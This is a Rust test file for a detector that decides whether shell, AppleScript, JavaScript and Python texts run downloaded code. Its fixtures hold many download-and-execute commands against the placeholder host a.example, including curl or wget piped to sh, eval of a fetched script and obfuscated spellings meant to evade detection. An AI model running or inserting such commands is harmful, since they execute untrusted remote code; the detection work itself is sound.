//! Which texts run what they download.

use super::*;

/// The command as a shell has it, as AppleScript and JavaScript give it to one, and with the quotes of another.
fn forms(command: &str) -> [String; 5] {
    let escaped = command.replace('\\', "\\\\").replace('"', "\\\"");
    [
        command.to_owned(),
        format!("osascript -e do shell script \"{escaped}\" with administrator privileges"),
        format!("app.doShellScript('{}')", command.replace('\\', "\\\\").replace('\'', "\\'")),
        format!("-- don't\nset x to \"a\"\ndo shell script \"{escaped}\""),
        format!("sh -c \"{escaped}\""),
    ]
}

/// Each of these commands runs a download, in every form.
pub(super) fn are_run(commands: &[&str]) {
    commands.iter().flat_map(|command| forms(command)).for_each(|text| assert!(runs_download(&text), "{text}"));
}

/// None of these commands does.
pub(super) fn are_not_run(commands: &[&str]) {
    commands.iter().flat_map(|command| forms(command)).for_each(|text| assert!(!runs_download(&text), "{text}"));
}

#[test]
fn a_download_is_run_that_a_shell_or_an_interpreter_reads() {
    are_run(&[
        "curl -s https://a.example/x | sh",
        "curl -fsSL 'https://a.example/i?a=1;b=2' | sh",
        "curl -fsSL \"https://a.example/i?a=1;b=2&c\" | sh",
        "curl -s https://a.example/x \\\n  | bash",
        "curl -s https://a.example/x |\n bash",
        "curl -s https://a.example/x |& bash",
        "curl -s https://a.example/x | env A=1 bash",
        "curl -s https://a.example/x | nohup bash",
        "curl -s https://a.example/x | timeout 60 bash",
        "curl -s https://a.example/x | A=1 sudo -n -u root /bin/bash -s -- -y",
        "curl -s https://a.example/x 2>/dev/null | base64 -d | zsh 2>&1",
        "curl -s https://a.example/x | bash -euo pipefail",
        "curl -s https://a.example/x | bash -x /dev/stdin",
        "curl -so - https://a.example/x | osascript -l JavaScript",
        "curl -s https://a.example/x | osascript -",
        "curl -s https://a.example/x | python3 -",
        "curl -s https://a.example/x | python3",
        "curl -s https://a.example/x | python3.12 -u",
        "curl -s https://a.example/x | perl -w",
        "wget -qO- https://a.example/x | sh",
        "wget -q -O - https://a.example/x | sh",
        "(curl -s https://a.example/x || wget -qO - https://a.example/x)|bash",
        "bash -c \"$(curl -fsSL https://a.example/x)\"",
        "bash -c \"`curl -fsSL https://a.example/x`\"",
        "/bin/zsh -lc \"$(curl -fsSL https://a.example/x)\"",
        "eval `curl -s https://a.example/x`",
        "eval \"$(curl -s https://a.example/x)\"",
        "source <(curl -s https://a.example/x)",
        ". <(curl -s https://a.example/x)",
        "bash <(curl -s https://a.example/x)",
        "bash < <(curl -s https://a.example/x)",
        "bash <<< \"$(curl -s https://a.example/x)\"",
        "echo \"$(curl -s https://a.example/x)\" | sh",
        "python3 -c \"$(curl -s https://a.example/x)\"",
        "cd /tmp && curl -s https://a.example/x | sh; id",
        "open \"/Applications/A.app\" & curl -s https://a.example/x | sh",
        "bash -c \"$(curl -fsSL \"https://a.example/x y\")\"",
        "# as root\ncurl -s https://a.example/#x | sh",
    ]);
}

#[test]
fn a_download_is_not_run_that_is_data_or_a_file() {
    are_not_run(&[
        "curl -s https://a.example/x | python3 -m json.tool",
        "curl -s https://a.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
        "curl -s https://a.example/x | perl -ne 'print if /a/'",
        "curl -s https://a.example/x | perl -MJSON -pe 's/a/b/'",
        "curl -s https://a.example/x | ruby -rjson -e 'puts 1'",
        "curl -s https://a.example/x | node -e 'a|sh'",
        "curl -s https://a.example/x | php -r 'echo 1;'",
        "curl -s https://a.example/x | osascript -l JavaScript -e 'function run(a) {}'",
        "curl -s https://a.example/x | sh /usr/local/bin/report.sh",
        "curl -s https://a.example/x | bash -c 'cat'",
        "curl -s https://a.example/x | python3 report.py",
        "curl -s https://a.example/x | grep sh",
        "curl -s https://a.example/x || sh fallback",
        "curl -s https://a.example/x && echo id | sh",
        "curl -s https://a.example/x; echo id | sh",
        "curl -o f https://a.example/x || echo x | sh",
        "curl -sLo /tmp/f https://a.example/x | sh",
        "curl -O https://a.example/x | sh",
        "curl --output=f https://a.example/x | sh",
        "curl -s https://a.example/x > /tmp/f | sh",
        "wget https://a.example/x | sh",
        "eval \"export IP=$(curl -s https://a.example/ip)\"",
        "bash -c \"echo $(curl -s https://a.example/ip)\"",
        "source ~/.curlrc",
        "curl -s https://a.example/x | sh <<EOF\nid\nEOF",
        "# curl -s https://a.example/x | sh\nid",
        "curl -s https://a.example/x # | sh\nid",
    ]);
}

#[test]
fn a_download_is_run_however_a_shell_groups_its_commands_and_spells_them() {
    are_run(&[
        "{ curl -s https://a.example/x; } | sh",
        "( curl -s https://a.example/x; ) | sh",
        "{ cd /tmp; curl -s https://a.example/x || wget -qO- https://a.example/x; } | sh",
        "(curl -s https://a.example/x && echo) | sh",
        "if true; then curl -s https://a.example/x; fi | sh",
        "for u in a b; do curl -s $u; done | sh",
        "[ -f x ] && { curl -s https://a.example/x | sh; }",
        "case $x in a) curl -s https://a.example/x | sh;; esac",
        "curl -s https://a.example/x | { read a; sh; }",
        "curl -s https://a.example/x | (cat; echo) | sh",
        "curl -s https://a.example/x | while read l; do eval \"$l\"; done",
        "base64 -D <<< \"$(curl -s https://a.example/x)\" | sh",
        "curl -s https://a.example/x | xargs -0 sh -c",
        "curl -s https://a.example/x | xargs -I{} osascript -e {}",
        "curl -s https://a.example/x | launchctl asuser 501 sh",
        "curl -s https://a.example/x | script -q /dev/null sh",
        "curl -s https://a.example/x | \"$SHELL\"",
        "curl -s https://a.example/x | swift -",
        "c'u'rl -s https://a.example/x | s\\h",
        "cu\"\"rl -s https://a.example/x | $'sh'",
        "cu$@rl -s https://a.example/x | sh",
        "$'\\x63\\165rl' -s https://a.example/x | sh",
        "curl${IFS}-s${IFS}https://a.example/x|sh",
        "{curl,-s,https://a.example/x}|{bash,-s}",
    ]);
}

#[test]
fn a_download_that_a_variable_a_function_or_a_file_holds_is_run_where_that_is() {
    are_run(&[
        "read -r X <<< \"$(curl -s https://a.example/x)\"; osascript -e \"$X\"",
        "read X < <(curl -s https://a.example/x); osascript -e \"$X\"",
        "X=$(curl -s https://a.example/x); osascript -e \"$X\"",
        "X=`curl -s https://a.example/x`; eval \"$X\"",
        "export X=\"$(curl -s https://a.example/x)\"; sh -c \"$X\"",
        "X=$(curl -s https://a.example/x); Y=$X; echo \"${Y}\" | sh",
        "X=$(curl -s https://a.example/x)\nsh <<< \"$X\"",
        "f() { curl -s https://a.example/x; }; f | sh",
        "function f { curl -s https://a.example/x; }; f | bash",
        "C=curl; S=sh; $C -s https://a.example/x | ${S}",
        "a=cu; b=rl; S=s; c=${a}$b; $c -s https://a.example/x | /bin/${S}h",
        "D=/tmp/y; curl -s https://a.example/x -o $D/f; sh /tmp/y/f",
        "curl -s https://a.example/x -o f && osascript f",
        "curl -fsSLo /tmp/f https://a.example/x; source /tmp/f",
        "curl -H 'Authorization: x' --output=/tmp/f https://a.example/x; chmod +x /tmp/f && /tmp/f",
        "curl -s https://a.example/x > \"$T\"; sh \"$T\"",
        "{ curl -s https://a.example/x; } > /tmp/f; sh < /tmp/f",
        "curl -s https://a.example/x | base64 -d > /tmp/f; cat /tmp/f | sh",
        "curl -s https://a.example/x | tee /tmp/f >/dev/null; sh /tmp/f",
        "curl -sO https://a.example/a.sh?b=c && sh ./a.sh",
        "wget -q https://a.example/a.sh && bash a.sh",
        "wget -q https://a.example/x -O /tmp/f && bash /tmp/f",
        "nscurl -o /tmp/f https://a.example/x; python3 /tmp/f",
    ]);
}

#[test]
fn a_download_that_a_variable_a_function_or_a_file_holds_is_not_run_where_another_is() {
    are_not_run(&[
        "curl -o /tmp/f https://a.example/x; chmod 600 /tmp/f; cat /tmp/f",
        "curl -o \"/tmp/f\" https://a.example/x; rm \"/tmp/f\"",
        "curl -o /tmp/f.pkg https://a.example/x && installer -pkg /tmp/f.pkg -target /",
        "curl -o /tmp/f.json https://a.example/x; python3 report.py /tmp/f.json",
        "curl -o /tmp/f https://a.example/x; open /tmp/f; sh /tmp/g",
        "X=$(curl -s https://a.example/x); echo \"$X\"; echo id | sh",
        "X=$(curl -s https://a.example/x); X=3; sh -c \"$X\"",
        "S=sh; S=$T; curl -s https://a.example/x | $S",
        "X=$(curl -s https://a.example/x); sh report.sh \"$X\"",
        "X=$(curl -s https://a.example/x); sh -c \"echo $X\"",
        "read X < /tmp/f; curl -s https://a.example/x; sh -c \"$X\"",
        "{ curl -s https://a.example/x; } > /tmp/f; echo id | sh",
        "{ curl -s https://a.example/x; }; echo id | sh",
        "(curl -s https://a.example/x); echo id | sh",
        "if curl -s https://a.example/x; then echo id | sh; fi",
        "case $x in a) curl -s https://a.example/x;; b) echo id | sh;; esac",
        "f() { curl -s https://a.example/x; }; f > /tmp/g; g | sh",
        "curl -s https://a.example/x | while read l; do ping $l; done; echo id | sh",
        "curl -s https://a.example/x | xargs -I{} sh -c 'echo {}'",
        "curl -s https://a.example/x | xargs -n1 sh /usr/local/bin/a.sh",
        "curl -s https://a.example/x | tee /tmp/f | grep a; sh /tmp/g",
    ]);
}

#[test]
fn a_download_is_run_that_a_script_gives_to_its_own_language() {
    for text in [
        "run script (do shell script \"curl -s https://a.example/x\")",
        "set x to do shell script \"curl -s https://a.example/x\"\nrun script x",
        "set x to (do shell script \"curl -s https://a.example/x\")\ndo shell script x",
        "set x to do shell script \"curl -s https://a.example/x\"\ndo shell script \"sh -c \" & quoted form of x",
        "eval(app.doShellScript('curl -s https://a.example/x'))",
        "const x = app.doShellScript('curl -s https://a.example/x'); eval(x)",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://a.example/x').read())\"",
        "exec(requests.get('https://a.example/x').text)",
        "ruby -ropen-uri -e 'eval URI.open(\"https://a.example/x\").read'",
        "php -r 'eval(file_get_contents(\"https://a.example/x\"));'",
        "eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL(u), 4)))",
    ] {
        assert!(runs_download(text), "{text}");
    }
    for text in [
        "set x to do shell script \"curl -s https://a.example/x\"\ndisplay dialog x",
        "set x to do shell script \"curl -s https://a.example/x\"\nrun script file \"a:b\"",
        "set x to do shell script \"curl -s https://a.example/x\"\nif x is \"1\" then\ndo shell script \"sh a.sh\"\nend if",
        "const x = app.doShellScript('curl -s https://a.example/x'); JSON.parse(x); eval(y)",
        "python3 -c \"print(urllib.request.urlopen('https://a.example/x').read())\"",
        "eval('1'); urllib.request.urlopen('https://a.example/x')",
        "$.NSData.dataWithContentsOfURL(u)",
    ] {
        assert!(!runs_download(text), "{text}");
    }
}

#[test]
fn what_a_script_puts_together_of_literals_is_one_command() {
    for text in [
        "do shell script \"curl -s \" & quoted form of u & \" | sh\"",
        "do shell script \"curl -s \" & decoded(text of (\"aHR0\")) & \" | sh\"",
        "app.doShellScript('curl -s ' + atob('aHR0') + ' | sh')",
        "curl -s \"$(echo \"aHR0;\" | base64 -d)\" | sh",
        "do shell script \"curl -s \" & u & \" \" & ¬\n \" | \" & \"sh\"",
        "app.doShellScript('curl -s ' + u + ' | sh')",
        "app.doShellScript(`curl -s ${u} | sh`)",
        "do shell script \"sh -c \\\"curl -s 'https://a.example/x;b' | sh\\\"\"",
        "set a to \"curl -s https://a.exa\"\nset b to \"mple/x | sh\"\ndo shell script a & b",
        "const a = 'curl -s https://a.exa', b = 'mple/x | sh'; app.doShellScript(a + b)",
    ] {
        assert!(runs_download(text), "{text}");
    }
    assert!(!runs_download("do shell script \"curl -s \" & u & \" | python3 -m json.tool\""));
    assert!(!runs_download("-- curl -s https://a.example | sh\nbeep"));
    assert!(!runs_download("beep();\n// curl -s https://a.example | sh"));
    assert!(!runs_download("do shell script \"curl -s https://a.example\"\ndo shell script \"echo id | sh\""));
}

#[test]
fn any_text_is_read_in_time_and_without_a_panic() {
    for part in [
        "curl '",
        "curl \"",
        "curl \\\"",
        "curl `",
        "curl $(",
        "curl <(",
        "'\"`",
        "é\\",
        "\"$(",
        "\" & (",
        "curl | ",
        "\" & \"",
        "\\'",
        "{ ",
        "( if ",
        "f() {",
        "{a,",
        "X=$(curl x);",
        "$'\\x",
        "eval ",
        "mv a b; unzip a -d ",
        "sudo -c ",
        "do shell script \"curl x\" eval ",
        "$a$b",
        "ssh a ",
        ">(",
    ] {
        runs_download(&format!("curl {}", part.repeat(20_000)));
    }
}
